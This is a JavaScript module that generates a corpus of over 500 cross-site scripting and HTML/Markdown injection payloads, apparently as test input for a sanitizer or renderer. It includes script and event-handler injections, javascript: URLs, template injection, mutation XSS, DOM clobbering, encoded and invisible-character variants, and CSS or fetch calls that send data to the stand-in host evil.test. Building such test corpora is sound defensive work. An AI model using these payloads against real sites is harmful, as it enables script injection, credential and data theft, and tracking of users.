// Words that try to become more than words: made from classes, the same 500 and more each time. Each calls `canary` or asks evil.test for
// something, if anything ever runs or loads it.

/** Where a payload would ask: a name that leads nowhere. */
export const EVIL = "http://evil.test";

const COUNT = 500;

const CALL = "canary(1)";

/** Ways into a script. */
const scripts = [
  `<script>${CALL}</script>`,
  `<ScRiPt>${CALL}</sCrIpT>`,
  `<script src="${EVIL}/s.js"></script>`,
  `<script src=//evil.test/s.js></script>`,
  `<script type=module>${CALL}</script>`,
  `<script type="text/javascript" defer>${CALL}</script>`,
  `<script/x>${CALL}</script>`,
  `<script\n>${CALL}</script\n>`,
  `<script >${CALL}</script >`,
  `<<script>${CALL}//<</script>`,
  `<script>/*-->*/${CALL}</script>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<script>${CALL}`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><script href="data:text/javascript,${CALL}" /></svg>`,
  `<math><script>${CALL}</script></math>`,
  `<template><script>${CALL}</script></template>`,
  `<noscript><script>${CALL}</script></noscript>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;parent.${CALL}&lt;/script&gt;"></iframe>`,
  `<script>Function("${CALL}")()</script>`,
  `<script>setTimeout("${CALL}")</script>`,
  `<script>import("${EVIL}/m.js")</script>`,
  `<script>fetch("${EVIL}/f")</script>`,
  `<script>new Image().src="${EVIL}/i"</script>`,
  `<script>navigator.sendBeacon("${EVIL}/b")</script>`,
  `<script>location="${EVIL}/l"</script>`,
];

const bearers = [
  ["img", "src=x", "onerror"],
  ["img", "src=x srcset=x", "ONERROR"],
  ["image", "src=x", "onerror"],
  ["video", "src=x", "onerror"],
  ["audio", "src=x", "onerror"],
  ["source", "src=x", "onerror"],
  ["svg", "", "onload"],
  ["svg/", "", "onload"],
  ["body", "", "onload"],
  ["body", "", "onpageshow"],
  ["input", "autofocus", "onfocus"],
  ["select", "autofocus", "onfocus"],
  ["textarea", "autofocus", "onfocus"],
  ["button", "autofocus", "onfocus"],
  ["details", "open", "ontoggle"],
  ["marquee", "", "onstart"],
  ["iframe", "", "onload"],
  ["object", "data=x", "onerror"],
  ["embed", "src=x", "onload"],
  ["link", "rel=stylesheet href=x", "onerror"],
  ["style", "", "onload"],
  ["a", "href=# autofocus tabindex=1", "onfocus"],
  ["div", "tabindex=0 autofocus", "onfocusin"],
  ["dialog", "open", "ontoggle"],
  ["div", "style=animation:fade", "onanimationstart"],
  ["div", "popover autofocus", "onbeforetoggle"],
  ["div", "contenteditable autofocus", "onfocus"],
];

/** Handlers, in as many spellings as a parser takes. */
const handlers = bearers.flatMap(([tag, more, event]) => [
  `<${tag} ${more} ${event}=${CALL}>`,
  `<${tag} ${more} ${event}="${CALL}">`,
  `<${tag}/${more.replaceAll(" ", "/")}/${event}='${CALL}'>`,
  `<${tag}\t${more}\n${event} = "&#99;anary&lpar;1&rpar;">`,
]);

const svgs = [
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<svg><set onbegin=${CALL} attributeName=x to=1>`,
  `<svg><a xlink:href="javascript:${CALL}"><text y=20>words</text></a></svg>`,
  `<svg><a><animate attributeName=href values="javascript:${CALL}" /><text y=20>words</text></a></svg>`,
  `<svg><image href="${EVIL}/i.png" /></svg>`,
  `<svg><image xlink:href="${EVIL}/i.png" /></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${CALL}</script></svg>#x" /></svg>`,
  `<svg><use href="${EVIL}/u.svg#x" /></svg>`,
  `<svg><foreignObject><img src=x onerror=${CALL}></foreignObject></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${CALL}</script>"></iframe></foreignObject></svg>`,
  `<svg><style>@import "${EVIL}/c.css";</style></svg>`,
  `<svg><handler type="application/ecmascript">${CALL}</handler></svg>`,
  `<svg><feImage href="${EVIL}/f.png" /></svg>`,
  `<svg><discard onbegin=${CALL}></svg>`,
  `![](data:image/svg+xml,%3Csvg%20onload=${CALL}%3E)`,
  `![](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9Y2FuYXJ5KDEpPg==)`,
];

const addresses = [
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  `java&#x09;script:${CALL}`,
  `&#106;avascript:${CALL}`,
  `javascript&colon;${CALL}`,
  `\u0001javascript:${CALL}`,
  `javascript:%63anary%281%29`,
  `javascript://evil.test/%0a${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `data:text/html;base64,PHNjcmlwdD5jYW5hcnkoMSk8L3NjcmlwdD4=`,
  `vbscript:${CALL}`,
  `view-source:${EVIL}`,
  `blob:${EVIL}/x`,
  `file:///etc/passwd`,
  `${EVIL}/page`,
  `//evil.test/page`,
  `\\\\evil.test\\page`,
  `intent://evil.test#Intent;scheme=http;end`,
];

/** Addresses, wherever Markdown takes one. */
const markdown = addresses.flatMap((to) => [
  `[words](${to})`,
  `[words](<${to}> "a title")`,
  `![words](${to})`,
  `[words][ref]\n\n[ref]: ${to}`,
  `<${to}>`,
  `<a href="${to}">words</a>`,
]);

const templates = [
  "{{constructor.constructor('canary(1)')()}}",
  "{{7*7}}{{canary(1)}}",
  "${canary(1)}",
  "`${canary(1)}`",
  "#{canary(1)}",
  "<%= canary(1) %>",
  "<? canary(1) ?>",
  "{@html '<img src=x onerror=canary(1)>'}",
  "{@debug canary(1)}",
  "{#if canary(1)}x{/if}",
  "{#await canary(1)}x{/await}",
  "{canary(1)}",
  "[[canary(1)]]",
  "{% raw canary(1) %}",
  "v-html=\"canary(1)\"",
  "<div ng-app ng-csp>{{$on.constructor('canary(1)')()}}</div>",
  "<div v-html=\"'<img src=x onerror=canary(1)>'\">",
  "<div x-data x-init=canary(1)>",
  "@{canary(1)}",
  "<!--#exec cmd=\"canary\" -->",
  "%%canary(1)%%",
  "$(canary 1)",
  "{{{canary(1)}}}",
  "<svelte:element this=script>canary(1)</svelte:element>",
];

function encoded(text) {
  const each = (make) => [...text].map((letter) => make(letter.codePointAt(0))).join("");
  return [
    each((code) => `&#${code};`),
    each((code) => `&#x${code.toString(16)};`),
    each((code) => `&#${String(code).padStart(7, "0")}`),
    each((code) => `%${code.toString(16).padStart(2, "0")}`),
    each((code) => `%25${code.toString(16).padStart(2, "0")}`),
    each((code) => `\\u${code.toString(16).padStart(4, "0")}`),
    each((code) => `\\x${code.toString(16).padStart(2, "0")}`),
    each((code) => (code > 32 && code < 127 ? String.fromCodePoint(code + 0xfee0) : String.fromCodePoint(code))),
    text.replaceAll("<", "+ADw-").replaceAll(">", "+AD4-"),
    text.replaceAll("<", "&lt").replaceAll(">", "&gt"),
    text.replaceAll("<", "\u{FE64}").replaceAll(">", "\u{FE65}"),
    text.replaceAll("<", "\\<"),
  ];
}

const encodings = [`<script>${CALL}</script>`, `<img src=x onerror=${CALL}>`, `<svg onload=${CALL}>`].flatMap(encoded);

const invisible = ["\u202e", "\u202d", "\u2066", "\u2067", "\u2068", "\u200b", "\u200f", "\ufeff", "\u2028", "\u2029", "\u00ad", "\u{e0001}", "\u0085", "\u180e"];
const bidi = invisible.flatMap((mark) => [
  `${mark}<img src=x onerror=${CALL}>${mark}`,
  `<scr${mark}ipt>${CALL}</scr${mark}ipt>`,
  `[gro.${mark}elpmaxe](java${mark}script:${CALL})`,
]);

const deep = (open, times, close = "") => open.repeat(times) + `<img src=x onerror=${CALL}>` + close.repeat(times);
const nesting = [
  deep("<div>", 2_000),
  deep("> ", 800),
  deep("- ", 800),
  deep("*", 2_000, "*"),
  deep("[", 1_500, "](x)"),
  deep("![", 800, "](x)"),
  deep("(", 2_000, ")"),
  deep("<b>", 1_000, "</b>"),
  deep("`", 999, "`"),
  deep("~~", 800, "~~"),
  deep("<svg><g>", 500),
  deep("&amp;", 1_500),
  deep("\n# ", 500),
  deep("| a ", 800),
];

const styles = [
  `<style>@import "${EVIL}/c.css";</style>`,
  `<style>*{background:url(${EVIL}/b.png)}</style>`,
  `<style>@font-face{font-family:x;src:url(${EVIL}/f.woff2)}*{font-family:x}</style>`,
  `<style>input[value^=a]{background:url(${EVIL}/a)}</style>`,
  `<style>*{display:none!important}</style>`,
  `<link rel=stylesheet href="${EVIL}/c.css">`,
  `<link rel=preload as=image href="${EVIL}/p.png">`,
  `<link rel=prefetch href="${EVIL}/p">`,
  `<link rel=dns-prefetch href="//evil.test">`,
  `<link rel=preconnect href="${EVIL}">`,
  `<link rel=icon href="${EVIL}/i.ico">`,
  `<link rel=manifest href="${EVIL}/m.json">`,
  `<div style="background:url(${EVIL}/d.png)">words</div>`,
  `<div style="width:expression(${CALL})">words</div>`,
  `<div style="position:fixed;inset:0;background:#fff">gone</div>`,
  `<div style="-moz-binding:url(${EVIL}/x.xml)">words</div>`,
  `<table background="${EVIL}/t.png"><tr><td>words</table>`,
  `<input type=image src="${EVIL}/i.png">`,
  `<video poster="${EVIL}/v.png"></video>`,
  `<img srcset="${EVIL}/s.png 1x">`,
  `<picture><source srcset="${EVIL}/p.png"><img></picture>`,
  `![a pixel](${EVIL}/pixel.png)`,
  `![a pixel][p]\n\n[p]: ${EVIL}/pixel.png`,
  `[![a pixel](${EVIL}/pixel.png)](${EVIL}/page)`,
];

const leads = [
  `<meta http-equiv=refresh content="0;url=${EVIL}/m">`,
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
  `<meta http-equiv=Content-Security-Policy content="default-src *">`,
  `<meta http-equiv=set-cookie content="x=1">`,
  `<base href="${EVIL}/">`,
  `<base target=_top>`,
  `<form action="${EVIL}/f"><input type=submit autofocus></form>`,
  `<form action="javascript:${CALL}"><button autofocus>words</button></form>`,
  `<button form=x formaction="javascript:${CALL}">words</button><form id=x></form>`,
  `<iframe src="${EVIL}/i"></iframe>`,
  `<iframe src="javascript:parent.${CALL}"></iframe>`,
  `<object data="${EVIL}/o"></object>`,
  `<object data="javascript:${CALL}"></object>`,
  `<embed src="${EVIL}/e">`,
  `<frameset><frame src="${EVIL}/fr"></frameset>`,
  `<portal src="${EVIL}/p"></portal>`,
  `<audio src="${EVIL}/a.mp3" autoplay></audio>`,
  `<video src="${EVIL}/v.mp4" autoplay></video>`,
  `<track src="${EVIL}/t.vtt">`,
  `<applet code=x codebase="${EVIL}"></applet>`,
  `<a href="x" ping="${EVIL}/ping">words</a>`,
  `<a href="${EVIL}/d" download>words</a>`,
  `<a href="${EVIL}/o" target=_blank rel=opener>words</a>`,
];

/** Markup that is harmless where it's read first and isn't where it's read again. */
const mutating = [
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<title><p title="</title><img src=x onerror=${CALL}>">`,
  `<textarea><p title="</textarea><img src=x onerror=${CALL}>">`,
  `<style><p title="</style><img src=x onerror=${CALL}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${CALL}>">`,
  `<noembed><p title="</noembed><img src=x onerror=${CALL}>">`,
  `<noframes><p title="</noframes><img src=x onerror=${CALL}>">`,
  `<iframe><p title="</iframe><img src=x onerror=${CALL}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${CALL}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${CALL}>`,
  `<svg></p><style><a id="</style><img src=x onerror=${CALL}>">`,
  `<svg><style><img src=x onerror=${CALL}></style></svg>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${CALL}></annotation-xml></math>`,
  `<table><td><svg><desc><td><img src=x onerror=${CALL}></td></desc></svg>`,
  `<select><template shadowrootmode=open><img src=x onerror=${CALL}></template></select>`,
  `<div><template shadowrootmode=open><img src=x onerror=${CALL}></template></div>`,
  `<!--><img src=x onerror=${CALL}>-->`,
  `<!---><img src=x onerror=${CALL}>-->`,
  `<!--!><img src=x onerror=${CALL}>-->`,
  `<![CDATA[><img src=x onerror=${CALL}>]]>`,
  `<?xml ><img src=x onerror=${CALL}>?>`,
  `<!DOCTYPE x [<!ENTITY y "<img src=x onerror=${CALL}>">]>&y;`,
  "```\n</code></pre><img src=x onerror=canary(1)>\n```",
  "    </code></pre><img src=x onerror=canary(1)>",
  `\`</code><img src=x onerror=${CALL}>\``,
  `<div>\n\n**<img src=x onerror=${CALL}>**\n\n</div>`,
];

/** Names that would stand in the way of the page's own. */
const names = ["app", "main", "location", "document", "getElementById", "querySelector", "body", "cookie", "history", "fetch", "sessionStorage", "canary", "trustedTypes", "__proto__", "constructor", "toString", "attributes", "children", "parentNode", "defaultView"];
const clobbering = names.flatMap((name) => [`<a id=${name} href="javascript:${CALL}">words</a>`, `<form name=${name}><input name=${name}></form>`]);

const quotes = ['"', "'", "`", '">', "'>", "</textarea>", "</title>", "</style>", "</script>", "-->", "]]>", "*/", "\\\"", "</option></select>", "</svg>", "\n\n"];
const breakouts = quotes.flatMap((quote) => [`${quote}<img src=x onerror=${CALL}>`, `${quote} autofocus tabindex=1 onfocus=${CALL} x=${quote}`, `${quote};${CALL};//`]);

const controls = [
  `\u0000<img src=x onerror=${CALL}>`,
  `<img\u0000 src=x onerror=${CALL}>`,
  `\u001b[31m<img src=x onerror=${CALL}>\u001b[0m`,
  `\u001b]8;;${EVIL}\u0007words\u001b]8;;\u0007`,
  `\u0008\u0008<img src=x onerror=${CALL}>`,
  `\u007f<svg onload=${CALL}>`,
  `<img src=x\u000conerror=${CALL}>`,
  `\r<script>${CALL}</script>`,
  `\ud83d<img src=x onerror=${CALL}>`.toWellFormed?.() ?? `\ufffd<img src=x onerror=${CALL}>`,
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${CALL} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${CALL}//>\\x3e`,
  `'">><marquee><img src=x onerror=${CALL}></marquee>"></plaintext\\></|\\><plaintext/onmouseover=${CALL}><script>${CALL}</script>`,
  `<plaintext>`,
];

const classes = { scripts, handlers, svgs, markdown, templates, encodings, bidi, nesting, styles, leads, mutating, clobbering, breakouts, controls };

/** All of them, each with its class. */
export function corpus() {
  const seen = new Set();
  const all = Object.entries(classes).flatMap(([kind, texts]) => texts.map((text) => ({ kind, text })));
  const distinct = all.filter(({ text }) => !seen.has(text) && seen.add(text));
  if (distinct.length < COUNT) {
    throw new Error(`${distinct.length} payloads, not ${COUNT}`);
  }
  return distinct;
}

/** The first of each class. */
export function oneOfEach(payloads) {
  return Object.keys(classes).map((kind) => payloads.find((payload) => payload.kind === kind));
}
